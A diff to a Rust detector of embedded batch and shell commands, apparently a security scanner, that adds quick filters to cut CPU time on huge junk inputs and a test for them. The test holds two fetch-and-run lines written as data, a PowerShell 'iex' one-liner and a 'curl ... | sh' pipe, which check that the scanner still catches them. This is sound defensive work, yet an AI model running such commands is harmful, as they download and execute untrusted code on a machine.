@@ -2780,12 +2780,34 @@ const LONGEST_NAME: usize = 10;
 /// Whether `word` is one of `names`: compared by length and first byte before the bytes
 /// (a call to `memcmp` per name of the same length was a tenth of the time of a file of
 /// short commands).
+/// A word not starting with a lower-case letter is none of them, without a look at
+/// each (every name does, checked at build time below; review r26-screen: 64 MiB of `^`+CRLF, 22 million
+/// one-word commands, took 52 s of CPU in a debug build, most of it here).
 fn listed(names: &[&[u8]], word: &[u8]) -> bool {
-    word.len() <= LONGEST_NAME
-        && names
-            .iter()
-            .any(|name| name.len() == word.len() && name.first() == word.first() && *name == word)
+    if word.len() > LONGEST_NAME || !word.first().is_some_and(u8::is_ascii_lowercase) {
+        return false;
+    }
+    #[cfg(test)]
+    tests::LISTS_SEARCHED.with(|n| n.set(n.get() + 1));
+    names
+        .iter()
+        .any(|name| name.len() == word.len() && name.first() == word.first() && *name == word)
 }
+
+// Every name of STRONG, WEAK and WRAPPERS starts with a lower-case letter, as `listed`
+// assumes: checked when the crate is built (an unnamed constant is always evaluated).
+const _: () = {
+    let lists: [&[&[u8]]; 3] = [&STRONG, &WEAK, &WRAPPERS];
+    let mut l = 0;
+    while l < lists.len() {
+        let mut i = 0;
+        while i < lists[l].len() {
+            assert!(lists[l][i][0].is_ascii_lowercase());
+            i += 1;
+        }
+        l += 1;
+    }
+};
 
 fn is_strong(word: &[u8]) -> bool {
     if listed(&STRONG, word) {
@@ -3227,6 +3249,11 @@ fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Optio
     let line = bytes.get(at..)?;
     let skip = program_start(line);
     let start = &line[skip..];
+    if !may_name_a_program(start) {
+        return None;
+    }
+    #[cfg(test)]
+    tests::READ_AS_COMMANDS.with(|n| n.set(n.get() + 1));
     // cmd.exe expands `%...%` in a line before it reads the command's name from it:
     // the name is judged as expanded (a copy of this one line, when the name has a
     // `%`), and a name built from a substring or replacement, or from input, is
@@ -3324,6 +3351,19 @@ fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Optio
     })
 }
 
+/// Whether the first word of `start` could name a program once cmd.exe has read it: it
+/// holds a letter or a digit (of a name, a path, an extension), a byte past ASCII (a
+/// letter of the console's code page), a quote (a quoted name runs to its closing
+/// quote, blanks and all), or a `%` or `!` that expands to one. A word of only `\`, `^`,
+/// `.`, `@` and such names nothing: one short look instead of the copies and lists of
+/// [`batch_command_at`] (review r26-screen: 64 MiB of `\`+newline, `^`+CRLF or `&\`
+/// made 32 million such candidates, 55 s of CPU in a debug build).
+fn may_name_a_program(start: &[u8]) -> bool {
+    start[..first_word_end(start)]
+        .iter()
+        .any(|&b| b.is_ascii_alphanumeric() || b >= 0x80 || matches!(b, b'"' | b'%' | b'!'))
+}
+
 /// The program of [`BATCH`] the command at the start of `start` runs (its name followed by
 /// a delimiter, the line's end, or `.exe`), an ambiguous one only with a command's
 /// argument; or, for a name of no tool known here, the name itself when it ends with an
@@ -3333,7 +3373,17 @@ fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Optio
 fn batch_program(start: &[u8], by_path: bool) -> Option<&[u8]> {
     let name_ends =
         |b: Option<u8>| b.is_some_and(|b| matches!(b, b'\r' | b'\n') || is_token_delimiter(b));
-    for launcher in BATCH {
+    // Every tool of BATCH starts with a letter: a line starting with anything else (the
+    // `\` of a line of `\`+newline, a caret, a digit) is compared with none of them.
+    // Review r26-screen: the list was walked (and copied, iterated by value) for every
+    // candidate, ~1 us each in a debug build: 64 MiB of `\`+newline, 32 million
+    // candidates, took 55 s of CPU.
+    let launchers: &[&[u8]] = if start.first().is_some_and(u8::is_ascii_alphabetic) {
+        &BATCH
+    } else {
+        &[]
+    };
+    for &launcher in launchers {
         let Some(head) = start.get(..launcher.len()) else {
             continue;
         };
@@ -3590,6 +3640,11 @@ fn program_by_path(start: &[u8]) -> Option<Vec<u8>> {
     } else {
         name.iter().rposition(|&b| b == b'\\')?
     };
+    // A path ending in its separator (`\`, `C:\dir\`) names a folder, no program: no
+    // copy of the line (one per line of a file of `\`+newline, review r26-screen).
+    if last + 1 == name.len() {
+        return None;
+    }
     Some([&name[last + 1..], rest].concat())
 }
 
@@ -4062,6 +4117,39 @@ mod tests {
         /// Candidates (a `!` for ex, a separator for batch) looked at past the one-byte
         /// filters, on this thread.
         pub(super) static LOOKED_AT: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+        /// Batch candidates whose first word could name a program, read in full.
+        pub(super) static READ_AS_COMMANDS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+        /// Words the shell model searched the lists of command names for.
+        pub(super) static LISTS_SEARCHED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+    }
+
+    /// Review r26-screen: 64 MiB of `\`+newline took 55 s of CPU (debug) in the batch
+    /// reader, 64 MiB of `^`+CRLF 52 s in the shell model: 32 and 22 million lines, each
+    /// copied, unescaped and compared with every tool's name although its one word (`\`,
+    /// `^`, `&\`) can name no program. Such lines are turned away at one look now: none
+    /// is read as a command, no list searched; a command among them is still found.
+    #[test]
+    fn lines_whose_word_names_nothing_are_turned_away_at_one_look() {
+        for unit in [&b"\\\n"[..], b"^\r\n", b"&\\", b"\\\r\n", b"...\n", b"@\n"] {
+            let lines = unit.repeat(1 << 16);
+            READ_AS_COMMANDS.with(|n| n.set(0));
+            assert!(find_batch_command(&lines).is_none(), "{unit:?}");
+            let read = READ_AS_COMMANDS.with(|n| n.get());
+            assert_eq!(read, 0, "{unit:?}: {read} lines read as commands");
+            LISTS_SEARCHED.with(|n| n.set(0));
+            let sh = find_shell_command(&lines);
+            let searched = LISTS_SEARCHED.with(|n| n.get());
+            assert_eq!(
+                searched, 0,
+                "{unit:?}: {searched} words searched for ({sh:?})"
+            );
+            let mut with = lines.clone();
+            with.extend_from_slice(b"\r\npowershell -nop -c iex(x)\r\n");
+            assert!(find_batch_command(&with).is_some(), "{unit:?}");
+        }
+        let mut sh = b"^\n".repeat(1 << 16);
+        sh.extend_from_slice(b"curl -s http://x/y | sh\n");
+        assert!(find_shell_command(&sh).is_some());
     }
 
     /// 16-bit pixel data as a CT scanner writes it (values near the air and soft tissue
